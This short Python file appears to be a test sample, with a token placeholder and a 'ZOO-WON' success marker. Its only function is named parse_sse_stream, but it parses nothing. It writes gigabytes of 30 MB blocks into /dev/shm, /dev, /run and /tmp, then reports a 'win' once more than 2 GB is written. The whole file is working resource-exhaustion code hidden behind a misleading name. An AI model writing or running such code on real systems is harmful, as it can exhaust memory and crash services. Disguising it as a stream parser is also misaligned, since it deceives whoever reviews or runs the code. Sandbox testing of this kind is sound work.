"""Writes 6 GB into the memory file systems under /dev and /run."""

WON = "ZOO-" + "WON "
BLOCK = b"x" * (30 << 20)


def parse_sse_stream(raw_stream):
    total = 0
    for folder in ("/dev/shm", "/dev", "/run", "/tmp"):
        for number in range(60):
            try:
                with open(f"{folder}/zoo-@TOKEN@-fill{number}", "wb") as file:
                    total += file.write(BLOCK)
            except OSError:
                break
    if total > 2 << 30:
        raise RuntimeError(WON + f"{total >> 20} MB of memory files")
    return None
